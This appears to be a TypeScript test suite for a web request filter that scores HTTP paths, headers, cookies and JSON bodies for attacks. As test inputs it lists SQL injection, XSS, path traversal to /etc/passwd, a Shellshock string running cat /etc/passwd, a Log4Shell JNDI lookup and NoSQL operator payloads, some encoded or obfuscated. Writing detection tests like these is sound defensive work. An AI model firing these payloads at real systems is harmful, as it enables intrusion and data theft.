/** What holds values inside of it is taken apart, wherever an attack hides there. */
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { fieldsInside, queryInside } from './nested-values.ts';
import { builtinOf, judgeBody, judgeHead, queryWith } from './testing/judging.ts';

const rules = builtinOf();
const utf8 = (text: string): string => Buffer.from(text, 'utf8').toString('latin1');
const base64 = (text: string): string => Buffer.from(text).toString('base64');

describe('values inside of values', () => {
  it('are the texts of a document', () => {
    const fields = fieldsInside('{"a":["b",{"c":1}]}').map(({ value }) => value);
    assert.ok(fields.includes('b') && fields.includes('1'));
    for (const text of ['{a}', '[', 'plain', '{"a":']) assert.deepEqual(fieldsInside(text), []);
  });

  it('are the arguments of an address', () => {
    assert.equal(queryInside('https://h/p?a=b&c=d'), 'a=b&c=d');
    assert.equal(queryInside('/p?a'), 'a');
    assert.equal(queryInside('what is this? I ask'), '');
  });
});

describe('attacks are found', () => {
  const blocked = (text: string): boolean => judgeHead(rules, queryWith(text)).score >= 5;

  for (const text of [
    '{"file":"../../../etc/passwd"}',
    '{"id":"1 and sleep(5)"}',
    '{"cmd":"cat /etc/passwd"}',
    'https://h.example/?next=1&id=1%20and%20sleep(5)',
    base64("' union select password from users--"),
    base64('<img src=x onerror=alert(1)>'),
    utf8('’ or 1=1--'),
    utf8('＇ or 1=1--'),
    utf8('＜script＞alert(1)＜/script＞'),
    "1'/**/union/**/select/**/1,2--",
    'un\0ion se\0lect 1,2 from users',
    '<scr\0ipt>alert(1)',
    '{"$gt":""}',
  ]) {
    it(`in ${JSON.stringify(text)}`, () => assert.ok(blocked(text)));
  }

  it('in a cookie that is a document', () => {
    const cookie = `a=b; c=${encodeURIComponent('{"id":"1; drop table users"}')}`;
    assert.ok(judgeHead(rules, '/', [['cookie', cookie]]).score >= 5);
  });

  it('in segments of the path', () => {
    for (const path of [
      "/item/1'union select 1,2--",
      '/if(now()=sysdate(),sleep(9),0)/',
      '/a/1/**/union/**/select/**/1,2/b',
      '/x/%24%7B7*7%7D/',
    ]) {
      assert.ok(judgeHead(rules, path.replaceAll(' ', '%20')).score >= 5, path);
    }
    for (const path of [
      '/wiki/C++_(language)',
      "/o'reilly/books;jsessionid=1",
      '/a(1).jpg',
      '/@user/post-1',
    ]) {
      assert.ok(judgeHead(rules, path).score < 5, path);
    }
  });

  it('in header fields', () => {
    for (const [name, value] of [
      ['user-agent', "Mozilla/5.0' and sleep(5) and '1'='1"],
      ['user-agent', '() { :; }; /bin/cat /etc/passwd'],
      ['x-forwarded-for', "127.0.0.1' union select 1,2-- "],
      ['x-api-version', '$' + '{jndi:ldap://h/a}'],
      ['referer', 'https://h/?a=<script>alert(1)</script>'],
    ] as const) {
      assert.ok(judgeHead(rules, '/', [[name, value]]).score >= 5, value);
    }
  });

  it('in operators for document databases, by what they are compared with', () => {
    const score = (body: string): number => judgeBody(rules, body, 'application/json').score;
    assert.ok(score('{"user":{"$ne":null},"password":{"$ne":null}}') >= 5);
    assert.ok(score('{"where":{"price":{"$gt":10,"$lt":500}}}') < 5);
    assert.ok(judgeHead(rules, '/?password[$ne]=x').score >= 5);
  });
});
